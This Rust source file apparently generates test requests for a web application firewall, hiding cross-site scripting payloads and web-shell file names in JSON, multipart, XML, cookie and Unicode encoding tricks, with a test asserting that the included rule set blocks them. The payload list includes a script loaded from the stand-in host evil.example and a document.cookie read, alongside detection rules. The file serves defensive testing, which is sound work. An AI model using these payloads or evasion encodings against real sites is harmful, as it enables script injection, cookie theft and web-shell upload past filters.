//! Requests of the kinds in which engines lose bytes, with an attack where a backend reads it.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::replay::Request;

/// Way in which bytes of an attack are hidden.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// JSON: escapes of surrogates stand before the attack.
    Surrogates,
    /// JSON: the attack is the key of an empty array or object.
    EmptyContainers,
    /// Multipart: the attack is in the first or in the last of two headers of one name.
    DuplicatePartHeaders,
    /// Multipart: the attack is in `filename*`.
    ExtendedFileNames,
    /// Characters whose best fit is one of ASCII stand for those of the attack.
    BestFit,
    /// Escapes of zero bytes stand before the attack.
    NulEscapes,
    /// The attack is the value or the name of the last of many arguments.
    ManyNames,
    /// XML in any encoding, with and without bytes that are invalid in it.
    XmlEncodings,
    /// XML: the attack is the content of a processing instruction.
    XmlInstructions,
    /// The attack is a cookie without a name, or has escapes within quotes.
    Cookies,
    /// Multipart: the attack is a name or file name in encoded words.
    EncodedWords,
    /// Multipart: the attack has escapes in a part of JSON or XML.
    TypedParts,
}

/// Attacks of scripts, in which every byte matters.
const ATTACKS: [&str; 4] = [
    "<script src=//evil.example/x.js></script>",
    "<svg onload=alert(document.cookie)>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
];
const FILE_NAMES: [&str; 3] = ["shell.php", "shell.phtml", "x.php5"];
const BOUNDARY: &str = "----boundary7MA4YWxkTrZu0gW";

/// Rules that block the attacks of all kinds, and malformed bodies.
pub const RULES: &str = r#"
    SecRuleEngine On
    SecRequestBodyAccess On
    SecRule REQUEST_HEADERS:Content-Type "xml" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
    SecRule REQUEST_HEADERS:Content-Type "json" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
    SecRule REQBODY_ERROR "!@eq 0" "id:3,phase:2,deny"
    SecRule FILES "@rx \.ph(?:p5?|tml)$" "id:4,phase:2,deny"
    SecRule ARGS|ARGS_NAMES|XML:/*|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent "@rx (?i)<(?:script|svg|img)[ >]" "id:5,phase:2,deny,t:urlDecodeUni,t:cssDecode"
"#;

type Random<'a> = &'a mut dyn FnMut(usize) -> usize;

impl Kind {
    /// All kinds.
    pub const ALL: [Self; 12] = [
        Self::Surrogates,
        Self::EmptyContainers,
        Self::DuplicatePartHeaders,
        Self::ExtendedFileNames,
        Self::BestFit,
        Self::NulEscapes,
        Self::ManyNames,
        Self::XmlEncodings,
        Self::XmlInstructions,
        Self::Cookies,
        Self::EncodedWords,
        Self::TypedParts,
    ];

    /// A request of the kind. `random` returns a number below its argument.
    pub fn request(self, random: Random<'_>) -> Request {
        let attack = ATTACKS[random(ATTACKS.len())];
        match self {
            Self::Surrogates => json(&surrogates(attack, random)),
            Self::EmptyContainers => json(&empty_containers(attack, random)),
            Self::DuplicatePartHeaders => duplicate_part_headers(attack, random),
            Self::ExtendedFileNames => extended_file_names(random),
            Self::BestFit => argument(&best_fit(attack, random), random),
            Self::NulEscapes => nul_escapes(attack, random),
            Self::ManyNames => many_names(attack, random),
            Self::XmlEncodings => xml(attack, random),
            Self::XmlInstructions => xml_instruction(attack, random),
            Self::Cookies => cookie(attack, random),
            Self::EncodedWords => encoded_words(attack, random),
            Self::TypedParts => typed_part(attack, random),
        }
    }
}

fn request(method: &str, target: &str, content_type: &str, body: Vec<u8>) -> Request {
    let header = |name: &str, value: &str| (name.into(), value.into());
    let mut headers = vec![
        header("Host", "www.example.com"),
        header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        header("Accept", "*/*"),
    ];
    if method == "POST" {
        headers.push(header("Content-Type", content_type));
        headers.push(header("Content-Length", &body.len().to_string()));
    }
    Request {
        method: method.into(),
        target: target.into(),
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body,
    }
}

fn json(body: &str) -> Request {
    request("POST", "/api", "application/json", body.into())
}

fn form(body: String) -> Request {
    request("POST", "/form", "application/x-www-form-urlencoded", body.into())
}

/// The text as the encoded value of an argument, in the target or in a form.
fn argument(encoded: &str, random: Random<'_>) -> Request {
    match random(2) {
        0 => request("GET", &format!("/search?q={encoded}"), "", Vec::new()),
        _ => form(format!("a=1&q={encoded}")),
    }
}

fn escaped(text: &str) -> String {
    let escape = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        _ => format!("%{byte:02x}"),
    };
    text.bytes().map(escape).collect()
}

/// The text as a string of JSON without quotes, some characters as escapes.
fn json_text(text: &str, random: Random<'_>) -> String {
    let mut out = String::new();
    for character in text.chars() {
        match random(4) {
            0 => out += &format!("\\u{:04x}", u32::from(character)),
            _ => out.push(character),
        }
    }
    out
}

fn surrogates(attack: &str, random: Random<'_>) -> String {
    const SURROGATES: [&str; 6] =
        ["\\ud83d", "\\udbff", "\\ud83d\\ude00", "\\udc00", "\\ud83d\\ud83d", "\\uD800x"];
    let before: String = (0..=random(3)).map(|_| SURROGATES[random(6)]).collect();
    let first = attack.chars().next().map_or(0, u32::from);
    let text = format!("{before}\\u{first:04x}{}", json_text(&attack[1..], random));
    match random(3) {
        0 => format!("{{\"q\":\"{text}\"}}"),
        1 => format!("[1,[\"{text}\"]]"),
        _ => format!("{{\"a\":{{\"{text}\":1}}}}"),
    }
}

fn empty_containers(attack: &str, random: Random<'_>) -> String {
    let empty = ["{}", "[]", "[[]]", "{\"\":{}}", "[ ]"][random(5)];
    let mut text = format!("{{\"{}\":{empty}}}", json_text(attack, random));
    for _ in 0..random(4) {
        text = match random(2) {
            0 => format!("{{\"a\":{text}}}"),
            _ => format!("[{text}]"),
        };
    }
    text
}

fn multipart(parts: &[String]) -> Request {
    let parts: String = parts.iter().map(|part| format!("--{BOUNDARY}\r\n{part}\r\n")).collect();
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");
    request("POST", "/upload", &content_type, format!("{parts}--{BOUNDARY}--\r\n").into())
}

fn duplicate_part_headers(attack: &str, random: Random<'_>) -> Request {
    let disposition = "Content-Disposition: form-data; name=\"a\"";
    let (file, name) = (FILE_NAMES[random(3)], attack.replace(['"', ';'], ""));
    let (harmless, hidden) = match random(3) {
        0 => (disposition.to_owned(), format!("Content-Disposition: form-data; name=\"{name}\"")),
        1 => (
            format!("{disposition}; filename=\"a.gif\""),
            format!("{disposition}; filename=\"{file}\""),
        ),
        _ => (
            format!("{disposition}\r\nContent-Type: text/plain"),
            format!("Content-Type: text/plain; charset={name}"),
        ),
    };
    let headers = match random(2) {
        0 => [harmless, hidden],
        _ if harmless.contains("Content-Type") => [harmless, hidden],
        _ => [hidden, harmless],
    };
    multipart(&[format!("{}\r\n\r\nvalue", headers.join("\r\n"))])
}

fn extended_file_names(random: Random<'_>) -> Request {
    let name: String = FILE_NAMES[random(3)]
        .bytes()
        .map(|byte| match random(3) {
            0 => format!("%{byte:02X}"),
            _ => char::from(byte).to_string(),
        })
        .collect();
    let charset = ["UTF-8", "utf-8", "ISO-8859-1"][random(3)];
    let language = ["", "en"][random(2)];
    let extended = format!("filename*={charset}'{language}'{name}");
    let plain = "filename=\"a.gif\"";
    let names = match random(2) {
        0 => format!("{plain}; {extended}"),
        _ => format!("{extended}; {plain}"),
    };
    multipart(&[format!(
        "Content-Disposition: form-data; name=\"f\"; {names}\r\nContent-Type: image/gif\r\n\r\nGIF89a"
    )])
}

/// The attack, encoded, with other characters for some of its own.
fn best_fit(attack: &str, random: Random<'_>) -> String {
    let mut out = String::new();
    for character in attack.chars() {
        let other = match character {
            '<' => ["%u2039", "%u3008", "%uff1c"][random(3)],
            '>' => ["%u203a", "%u3009", "%uff1e"][random(3)],
            _ => "",
        };
        out += &if other.is_empty() { escaped(&character.to_string()) } else { other.to_owned() };
    }
    out
}

fn nul_escapes(attack: &str, random: Random<'_>) -> Request {
    let before = ["\\0 ", "\\00 ", "\0", "\\u0000", "\\x00", "&#0;", "\\000000 "][random(7)];
    let text = format!("x{before}{attack}");
    match random(4) {
        0 => {
            json(&format!("{{\"q\":\"{}\"}}", text.replace('\\', "\\\\").replace('\0', "\\u0000")))
        }
        1 if !text.contains('\0') => {
            let mut request = request("GET", "/", "", Vec::new());
            request.headers[1].1 = text.into_bytes();
            request
        }
        2 => {
            let mut request = request("GET", "/", "", Vec::new());
            request.headers.push((b"Cookie".to_vec(), format!("a=b; c={}", escaped(&text)).into()));
            request
        }
        _ => argument(&escaped(&text), random),
    }
}

fn many_names(attack: &str, random: Random<'_>) -> Request {
    let count = 1 + random(600);
    let names: Vec<String> =
        (0..count).map(|number| format!("n{number}x{}", random(1000))).collect();
    let is_name = random(2) == 0;
    match random(3) {
        0 => {
            let fields: String =
                names.iter().map(|name| format!("{name}={}&", name.len())).collect();
            let last = if is_name {
                format!("{}=1", escaped(attack))
            } else {
                format!("q={}", escaped(attack))
            };
            form(fields + &last)
        }
        1 => {
            let members: String = names.iter().map(|name| format!("\"{name}\":1,")).collect();
            let last =
                if is_name { format!("\"{attack}\":[]") } else { format!("\"q\":\"{attack}\"") };
            json(&format!("{{{members}{last}}}"))
        }
        _ => {
            let part = |name: &str, value: &str| {
                format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}")
            };
            let mut parts: Vec<String> = names.iter().map(|name| part(name, "1")).collect();
            parts.push(part("q", attack));
            multipart(&parts)
        }
    }
}

fn xml(attack: &str, random: Random<'_>) -> Request {
    const ENCODINGS: [&str; 9] = [
        "UTF-8",
        "windows-1252",
        "ISO-8859-15",
        "Shift_JIS",
        "EUC-JP",
        "GB18030",
        "koi8-r",
        "ISO-8859-1",
        "UTF-16",
    ];
    let encoding = ENCODINGS[random(ENCODINGS.len())];
    let (subset, content) = match random(3) {
        0 => (String::new(), format!("<![CDATA[{attack}]]>")),
        1 => {
            let text = attack.replace('<', "&#38;#60;");
            (format!("<!DOCTYPE a [<!ENTITY e \"{text}\">]>"), "&e;".to_owned())
        }
        _ => (String::new(), attack.replace('<', "&lt;")),
    };
    let start = format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{subset}<a>x");
    let end = format!("{content}</a>");
    let body = if encoding == "UTF-16" {
        let to_bytes = [u16::to_le_bytes, u16::to_be_bytes][random(2)];
        let units = std::iter::once(0xfeff).chain(start.encode_utf16()).chain(end.encode_utf16());
        units.flat_map(to_bytes).collect()
    } else {
        // A byte that some of them do not have.
        let invalid = [&b""[..], b"\xe9", b"\x81", b"\xff"][random(4)];
        [start.as_bytes(), invalid, end.as_bytes()].concat()
    };
    request("POST", "/soap", "text/xml", body)
}

fn xml_instruction(attack: &str, random: Random<'_>) -> Request {
    let instruction = format!("<?p{}{attack}?>", [" ", "\n", "  "][random(3)]);
    let document = match random(3) {
        0 => format!("{instruction}<a>x</a>"),
        1 => format!("<a>x{instruction}y</a>"),
        _ => format!("<a><b/></a>{instruction}"),
    };
    request("POST", "/soap", "text/xml", document.into())
}

fn cookie(attack: &str, random: Random<'_>) -> Request {
    let cookie = match random(2) {
        0 => format!("={attack}"),
        _ => {
            let escape = |character: char| match random(3) {
                0 => format!("\\{:03o}", u32::from(character)),
                1 if !character.is_ascii_digit() => format!("\\{character}"),
                _ => character.to_string(),
            };
            format!("a=\"\\{:03o}{}\"", b'<', attack[1..].chars().map(escape).collect::<String>())
        }
    };
    let others = ["", "b=c; ", "$Version=1; ", "b=\"c\"; "][random(4)];
    let mut request = request("GET", "/", "", Vec::new());
    request.headers.push((b"Cookie".to_vec(), format!("{others}{cookie}").into()));
    request
}

fn encoded_words(attack: &str, random: Random<'_>) -> Request {
    let is_name = random(2) == 0;
    let text = if is_name { attack } else { FILE_NAMES[random(3)] };
    let mut words = String::new();
    let mut rest = text;
    while !rest.is_empty() {
        let (word, after) = rest.split_at(rest.len().min(1 + random(rest.len())));
        rest = after;
        let coded = match random(2) {
            0 => format!("b?{}", STANDARD.encode(word)),
            _ => {
                let escape = |byte: u8| match byte {
                    b' ' => "_".to_owned(),
                    b'=' | b'?' | b'_' | b'"' => format!("={byte:02X}"),
                    _ if random(3) == 0 => format!("={byte:02X}"),
                    _ => char::from(byte).to_string(),
                };
                format!("Q?{}", word.bytes().map(escape).collect::<String>())
            }
        };
        words += &format!("=?{}?{coded}?=", ["utf-8", "ISO-8859-1", "us-ascii"][random(3)]);
    }
    let names = if is_name {
        format!("name=\"{words}\"")
    } else {
        format!("name=\"f\"; filename=\"{words}\"")
    };
    multipart(&[format!("Content-Disposition: form-data; {names}\r\n\r\nvalue")])
}

fn typed_part(attack: &str, random: Random<'_>) -> Request {
    let (kind, text) = match random(2) {
        0 => {
            let first = attack.chars().next().map_or(0, u32::from);
            let text = format!("\\u{first:04x}{}", json_text(&attack[1..], random));
            let kind = ["application/json", "application/problem+json; charset=utf-8"][random(2)];
            (kind, [format!("[\"{text}\"]"), format!("{{\"{text}\":{{}}}}")][random(2)].clone())
        }
        _ => {
            let kind = ["text/xml", "image/svg+xml"][random(2)];
            (
                kind,
                format!("<a>{}</a>", attack.replace('<', ["&lt;", "&#60;", "&#x3c;"][random(3)])),
            )
        }
    };
    multipart(&[format!(
        "Content-Disposition: form-data; name=\"a\"\r\nContent-Type: {kind}\r\n\r\n{text}"
    )])
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use tollgate_waf::{RuleSet, Transaction, Worker};

    use super::*;
    use crate::replay;

    #[test]
    fn attacks_of_all_kinds_are_blocked() {
        let rules = RuleSet::builder().text("t.conf", RULES).build();
        let rules = Arc::new(rules.unwrap_or_else(|error| panic!("{error}")));
        let mut seed = 1u64;
        let mut random = |below: usize| {
            seed = seed.wrapping_mul(0x5851_f42d_4c95_7f2d).wrapping_add(1);
            (seed >> 33) as usize % below
        };
        let mut worker = Worker::new();
        for kind in Kind::ALL {
            for _ in 0..500 {
                let request = kind.request(&mut random);
                let mut transaction = Transaction::new(Arc::clone(&rules));
                replay::run_request(&mut transaction, &mut worker, &request);
                let body = request.body.escape_ascii();
                let target = request.target.escape_ascii();
                assert!(transaction.intervention().is_some(), "{kind:?}: {target} {body}");
            }
        }
    }
}
